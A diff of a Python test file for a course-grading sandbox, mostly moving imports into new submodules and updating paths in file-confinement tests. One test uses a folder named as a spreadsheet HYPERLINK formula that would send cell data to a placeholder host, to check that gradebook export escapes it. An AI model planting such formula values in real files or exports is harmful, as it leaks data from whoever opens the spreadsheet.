@@ -30,9 +30,9 @@ import numpy
 import pytest
 
 import grading_attacks as attacks
-from lessonlib.grading import confine
-from lessonlib.grading.authoring import answers_of, filled
-from lessonlib.grading.checker import exercise_names, load_exercise
+from lessonlib.grading.kernel import confine
+from lessonlib.grading.checks.authoring import answers_of, filled
+from lessonlib.grading.checks.checker import exercise_names, load_exercise
 from lessonlib.grading.sandbox import carve, confinement_policy, site_dirs
 from lessonlib.grading.screening import review_reasons
 
@@ -159,7 +159,7 @@ def test_a_confined_process_and_its_children_see_only_what_is_allowed(tmp_path):
     inside.mkdir()
     (inside / "mine.txt").write_text("mine")
     outside.write_text(MARK)
-    here = str(ROOT / "lessonlib" / "grading")
+    here = str(ROOT / "lessonlib" / "grading" / "kernel")
     res = subprocess.run([PY, "-I", "-S", "-c", WALLED, here, str(inside), str(outside)], capture_output=True,
                          text=True, timeout=120)
     out = json.loads(res.stdout.strip().splitlines()[-1])
@@ -185,7 +185,7 @@ def test_an_older_abi_keeps_the_file_walls_and_says_what_it_lacks(ceiling, tmp_p
     inside.mkdir()
     (inside / "mine.txt").write_text("mine")
     outside.write_text(MARK)
-    res = subprocess.run([PY, "-I", "-S", "-c", WALLED, str(ROOT / "lessonlib" / "grading"), str(inside), str(outside)],
+    res = subprocess.run([PY, "-I", "-S", "-c", WALLED, str(ROOT / "lessonlib" / "grading" / "kernel"), str(inside), str(outside)],
                          capture_output=True, text=True, timeout=120, env={**os.environ})
     out = json.loads(res.stdout.strip().splitlines()[-1])
     assert out["version"] == version and out["read_inside"] == "mine"
@@ -341,8 +341,8 @@ def test_without_walls_the_same_attacks_wait_for_review(graded):
 
 def test_a_folder_named_like_a_formula_does_not_become_one_in_the_gradebook(tmp_path):
     """A student (or their display name in an LMS download) cannot plant a spreadsheet formula."""
-    from lessonlib.grading.gradebook import gradebook_rows
-    from lessonlib.grading.verdict import CheckResult, SubmissionResult
+    from lessonlib.grading.report.gradebook import gradebook_rows
+    from lessonlib.grading.report.results import CheckResult, SubmissionResult
     folder = tmp_path / '=HYPERLINK("x.example?"&A1,"open")'
     folder.mkdir()
     path = folder / "05_rnea.ipynb"
